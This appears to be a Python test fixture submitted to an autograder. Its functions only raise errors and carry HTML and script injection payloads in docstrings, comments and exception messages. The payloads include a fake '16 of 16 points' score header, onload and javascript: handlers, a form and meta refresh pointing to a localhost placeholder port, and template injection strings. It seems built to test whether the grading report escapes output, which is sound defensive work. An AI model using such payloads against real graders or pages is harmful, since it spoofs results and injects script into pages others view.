"""Close the page's tables and write a better score, with forms, redirections and pictures to be fetched."""

print("TRIED")
__doc__ = "<h1>16 of 16 points</h1>"


def conv2d(x, kernel):
    raise ValueError  # </td></tr></table><h1>16 of 16</h1><svg onload=x()><img src=//127.0.0.1:@PORT@>


def lstm_step(x, h, c, W, U, b):
    """<script>alert(1)</script>"""
    raise type("Score_16_of_16", (ValueError,), {})  # </style><iframe><a href=javascript:x()>x</a>


raise ValueError(
    "</li></ul></body><form action=//127.0.0.1:@PORT@><input name=x></form><base href=//127.0.0.1>"
    "<meta http-equiv=refresh content='0;url=//127.0.0.1'><object data=x></object><link rel=x href=x>"
    "{{ 7 * 7 }} {% raw %} ![pixel](http://127.0.0.1:@PORT@/markup_that_breaks_the_page-x.png) <!-- ]]> "
    "&lt;script&gt; &#60;script&#62; <ScRiPt/x> <math href=x> \x00<script>"
)
